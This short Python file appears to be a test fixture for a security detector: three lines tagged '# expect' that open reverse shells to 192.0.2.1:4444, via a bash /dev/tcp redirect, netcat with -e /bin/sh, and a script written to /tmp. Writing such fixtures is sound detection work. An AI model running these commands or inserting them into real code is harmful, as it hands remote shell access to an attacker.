import os
import subprocess

os.system("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")  # expect
subprocess.Popen("nc -e /bin/sh 192.0.2.1 4444", shell=True)  # expect
with open("/tmp/x.sh", "w") as f:
    f.write("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")  # expect
